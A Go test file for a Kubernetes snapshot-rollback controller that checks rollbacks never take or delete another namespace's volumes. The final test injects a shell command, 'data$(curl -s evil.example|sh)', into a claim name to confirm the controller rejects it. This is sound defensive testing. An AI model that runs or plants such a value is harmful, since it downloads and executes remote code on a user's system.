// Copyright 2026 The SnapshotSchedule Authors.
// SPDX-License-Identifier: Apache-2.0

package core

import (
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"mapcontroller.dev/snapshotschedule/api/v1alpha1"
)

// The volume with the old data was wiped and given to another namespace. Not even a PVC that names it brings it back.
//
// Contract: BACK-5.
func TestAnUndoTakesNoVolumeOfAnotherNamespace(t *testing.T) {
	for name, tc := range map[string]struct {
		lure bool
		uid  types.UID
	}{
		"without a PVC that names the volume": {}, "with one, which is Pending": {lure: true}, "with one, and made anew": {lure: true, uid: "new"},
	} {
		t.Run(name, func(t *testing.T) {
			s := newCluster(t, 2, false)
			s.advance(0)
			s.settle()
			old := s.oldVolumeOf("data-db-0")
			old.Annotations = map[string]string{data: "secret of victim"}
			old.Spec.ClaimRef = &corev1.ObjectReference{Namespace: "victim", Name: "data", UID: "victim-uid"}
			old.Spec.PersistentVolumeReclaimPolicy, old.Status.Phase = corev1.PersistentVolumeReclaimRetain, corev1.VolumeBound
			if tc.uid != "" {
				old.UID = tc.uid
			}
			s.must(s.update(old))
			if tc.lure {
				p := s.newPVC("lure")
				p.Spec.VolumeName = old.Name
				s.create(p)
			}
			s.undo = true
			s.restart()
			step, err := Next(s.observe())
			if err == nil {
				t.Errorf("step %d %s", step.Number, step.Text)
			}
			if ref := s.volumes()[old.Name].Spec.ClaimRef; ref.Namespace != "victim" {
				t.Errorf("it has claimRef %s/%s", ref.Namespace, ref.Name)
			}
		})
	}
}

// oldVolumeOf returns the volume that the finished rollback of a PVC keeps.
func (s *cluster) oldVolumeOf(claim string) *corev1.PersistentVolume {
	records, err := RecordsOf(s.volumes()[s.pvcs()[claim].Spec.VolumeName])
	s.must(err)
	return s.volumes()[records[len(records)-1].Volume]
}

// Contract: BACK-5.
func TestAVolumeThatIsReservedForAnotherNamespaceIsNotReserved(t *testing.T) {
	v := &corev1.PersistentVolume{}
	v.Spec.ClaimRef = &corev1.ObjectReference{Namespace: "victim", Name: "data-db-0"}
	if (&State{Namespace: ns}).isReserved(v, "data-db-0") {
		t.Error("a volume that is reserved for victim/data-db-0 counts as reserved for shop/data-db-0")
	}
}

// A tenant makes a PVC of the name that a rollback gives, which names the volume that was just replaced.
//
// Contract: BACK-5.
func TestAnUndoDeletesNoVolumeThatStays(t *testing.T) {
	s := newCluster(t, 2, false)
	s.advance(0)
	s.settle()
	present := s.volumes()[s.pvcs()["data-db-0"].Spec.VolumeName]
	s.undo = true
	s.restart()
	planted := false
	for range 100 {
		s.now = s.now.Add(time.Second)
		s.tick()
		o := s.observe()
		step, err := Next(o)
		s.must(err)
		if step.Number == 0 {
			break
		}
		if step.Number >= 8 && !planted {
			planted = true
			p := s.newPVC(RestoredName("data-db-0", o.Lock().Undo))
			p.Annotations = map[string]string{v1alpha1.AnnotationRollbackOf: "data-db-0"}
			p.Spec.VolumeName = present.Name
			p.Spec.DataSource = &corev1.TypedLocalObjectReference{Kind: "VolumeSnapshot", Name: "data-db-0-0"}
			s.create(p)
			continue
		}
		s.must(s.take(o, step, never))
	}
	s.settle()
	if !planted || s.volumes()[present.Name] == nil {
		t.Errorf("planted: %t; PersistentVolume %s is deleted", planted, present.Name)
	}
}

// Whatever is written into other PVCs of the namespace, no rollback depends on it.
//
// Contract: BACK-5.
func TestOtherPVCsKeepNoRollbackFromWorking(t *testing.T) {
	s := newCluster(t, 2, false)
	p := s.newPVC("other")
	p.Spec.VolumeName = "a/b"
	p.Annotations = map[string]string{v1alpha1.AnnotationRollback: "{", v1alpha1.AnnotationRollbackOf: "data-db-0"}
	s.create(p)
	s.advance(0)
}

// The API server does not validate claimName in the template of a Deployment, and messages have command lines to copy.
//
// Contract: BACK-5.
func TestANameThatIsNoneIsInNoCommand(t *testing.T) {
	w := NewWorkload(&appsv1.Deployment{Spec: appsv1.DeploymentSpec{Replicas: ptr.To[int32](1), Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
		Volumes: []corev1.Volume{{VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{
			ClaimName: "data$(curl -s evil.example|sh)",
		}}}},
	}}}})
	s := &State{Namespace: ns, Workload: w, Claims: []*Claim{{Name: ClaimsOf(w, 1, nil)[0]}}}
	if _, err := Next(s); err == nil || !strings.Contains(err.Error(), "is not a valid name") || strings.Contains(err.Error(), "--pvc") {
		t.Error(err)
	}
}
